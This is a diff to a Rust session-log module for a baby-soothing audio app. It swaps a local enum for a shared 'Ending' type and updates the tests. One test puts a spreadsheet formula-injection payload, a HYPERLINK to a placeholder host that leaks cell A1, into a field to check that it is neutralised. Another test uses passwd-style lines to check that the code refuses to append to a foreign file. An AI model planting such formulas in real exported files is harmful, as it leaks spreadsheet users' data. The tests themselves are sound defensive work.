@@ -16,10 +16,11 @@
 //! The log is read back as a stream ([`records`]): however large it is,
 //! only a record at a time is held, and only a regular file is read.
 
-use std::fmt;
 use std::fs::File;
 use std::io::{self, Read, Seek, SeekFrom, Write};
 use std::path::{Path, PathBuf};
+
+use soothe_core::status::Ending;
 
 mod read;
 pub mod table;
@@ -42,27 +43,6 @@ const HEADERS: [&str; 2] = [
 /// What the script column says of the built-in session.
 pub const BUILTIN: &str = "built-in";
 
-/// How far a session got.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum Reached {
-    /// Played to its end.
-    Finished,
-    /// "Baby's done" was pressed on this step, and the close played.
-    BabysDone(String),
-    /// Stopped on this step (q, Ctrl-C, a signal, a failure).
-    Stopped(String),
-}
-
-impl fmt::Display for Reached {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        match self {
-            Reached::Finished => write!(f, "finished"),
-            Reached::BabysDone(step) => write!(f, "baby's done at {step}"),
-            Reached::Stopped(step) => write!(f, "stopped at {step}"),
-        }
-    }
-}
-
 /// One session, as the log keeps it.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Entry {
@@ -75,7 +55,8 @@ pub struct Entry {
     pub variant: String,
     pub options: Vec<String>,
     pub voice: String,
-    pub reached: Reached,
+    /// How it ended, and where.
+    pub ending: Ending,
     /// How long it was heard, pauses and skipped parts left out, in
     /// whole seconds.
     pub heard_seconds: u64,
@@ -96,8 +77,8 @@ impl Entry {
             &self.variant,
             &self.options.join(" "),
             &self.voice,
-            &self.reached.to_string(),
-            &crate::clock::clock(self.heard_seconds, 1),
+            &self.ending.to_string(),
+            &soothe_core::clock::clock(self.heard_seconds, 1),
         ]
         .iter()
         .map(|field| csv_field(field))
@@ -150,7 +131,7 @@ pub fn append_to(path: &Path, entry: &Entry) -> io::Result<()> {
     }
     let (mut file, linked) = open_to_append(path)?;
     let metadata = file.metadata()?;
-    if let Some(kind) = crate::error::not_a_file(&metadata) {
+    if let Some(kind) = soothe_core::error::not_a_file(&metadata) {
         return Err(left_alone(format!("it is {kind}, not a session log")));
     }
     let mut text = String::new();
@@ -250,7 +231,7 @@ pub fn open_to_read(path: &Path) -> io::Result<File> {
         options.custom_flags(libc::O_NONBLOCK);
     }
     let file = options.open(path)?;
-    if let Some(kind) = crate::error::not_a_file(&file.metadata()?) {
+    if let Some(kind) = soothe_core::error::not_a_file(&file.metadata()?) {
         return Err(io::Error::new(
             io::ErrorKind::InvalidInput,
             format!("it is {kind}, not an ordinary file"),
@@ -326,7 +307,7 @@ fn utc(seconds: u64) -> (i64, u32, u32, u32, u32) {
 mod tests {
     use super::*;
 
-    fn entry(reached: Reached) -> Entry {
+    fn entry(ending: Ending) -> Entry {
         Entry {
             date: "2026-11-26".into(),
             time: "21:04".into(),
@@ -334,7 +315,7 @@ mod tests {
             variant: "relaxing".into(),
             options: vec!["colic".into(), "newborn".into()],
             voice: "mum".into(),
-            reached,
+            ending,
             heard_seconds: 14 * 60 + 32,
         }
     }
@@ -351,7 +332,7 @@ mod tests {
 
     #[test]
     fn a_line_quotes_what_needs_it_and_reads_back() {
-        let line = entry(Reached::BabysDone("tummy".into())).line();
+        let line = entry(Ending::BabysDone("tummy".into())).line();
         assert_eq!(
             line,
             "2026-11-26,21:04,\"/home/sam/my, session.ron\",relaxing,colic newborn,mum,baby's done at tummy,14:32"
@@ -363,7 +344,7 @@ mod tests {
 
     #[test]
     fn a_script_path_with_a_line_end_and_quotes_is_one_session_read_back_whole() {
-        let mut session = entry(Reached::Stopped("legs".into()));
+        let mut session = entry(Ending::Stopped("legs".into()));
         session.script = "/home/sam/two\nlines \"and quotes\".ron".into();
         let line = session.line();
         assert_eq!(
@@ -377,7 +358,7 @@ mod tests {
 
     #[test]
     fn fields_beginning_with_equals_plus_minus_or_at_are_neutralised_and_read_back_as_written() {
-        let mut session = entry(Reached::Finished);
+        let mut session = entry(Ending::Finished);
         session.script = "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")".into();
         session.variant = "+1".into();
         session.options = vec!["-cmd".into(), "colic".into()];
@@ -416,7 +397,7 @@ mod tests {
     const FOREIGN: &str = "root:x:0:0:root:/root:/bin/bash\nsam:x:1000:1000::/home/sam:/bin/sh\n";
 
     fn refusal(path: &Path) -> String {
-        append_to(path, &entry(Reached::Finished))
+        append_to(path, &entry(Ending::Finished))
             .unwrap_err()
             .to_string()
     }
@@ -477,10 +458,10 @@ mod tests {
     fn a_symlink_to_a_soothe_log_is_added_to() {
         let dir = tempfile::tempdir().unwrap();
         let log = dir.path().join("synced/log.csv");
-        append_to(&log, &entry(Reached::Finished)).unwrap();
+        append_to(&log, &entry(Ending::Finished)).unwrap();
         let path = dir.path().join("log.csv");
         std::os::unix::fs::symlink(&log, &path).unwrap();
-        append_to(&path, &entry(Reached::Stopped("legs".into()))).unwrap();
+        append_to(&path, &entry(Ending::Stopped("legs".into()))).unwrap();
         let read = sessions(&std::fs::read_to_string(&log).unwrap());
         assert_eq!(read.len(), 2);
         assert_eq!(read[1][6], "stopped at legs");
@@ -509,11 +490,11 @@ mod tests {
         let dir = tempfile::tempdir().unwrap();
         let path = dir.path().join("log.csv");
         std::fs::write(&path, "").unwrap();
-        append_to(&path, &entry(Reached::Finished)).unwrap();
+        append_to(&path, &entry(Ending::Finished)).unwrap();
         let text = std::fs::read_to_string(&path).unwrap();
         assert_eq!(
             text,
-            format!("{HEADER}\n{}\n", entry(Reached::Finished).line())
+            format!("{HEADER}\n{}\n", entry(Ending::Finished).line())
         );
     }
 
@@ -521,14 +502,14 @@ mod tests {
     fn appending_keeps_every_earlier_line_and_mends_a_cut_one() {
         let dir = tempfile::tempdir().unwrap();
         let path = dir.path().join("state/soothe/log.csv");
-        append_to(&path, &entry(Reached::Finished)).unwrap();
+        append_to(&path, &entry(Ending::Finished)).unwrap();
         // A line cut short by a full disk.
         let mut file = std::fs::OpenOptions::new()
             .append(true)
             .open(&path)
             .unwrap();
         file.write_all(b"2026-11-27,20:58,built-in").unwrap();
-        append_to(&path, &entry(Reached::Stopped("legs".into()))).unwrap();
+        append_to(&path, &entry(Ending::Stopped("legs".into()))).unwrap();
         let text = std::fs::read_to_string(&path).unwrap();
         let lines: Vec<&str> = text.lines().collect();
         assert_eq!(lines.len(), 4, "{text}");
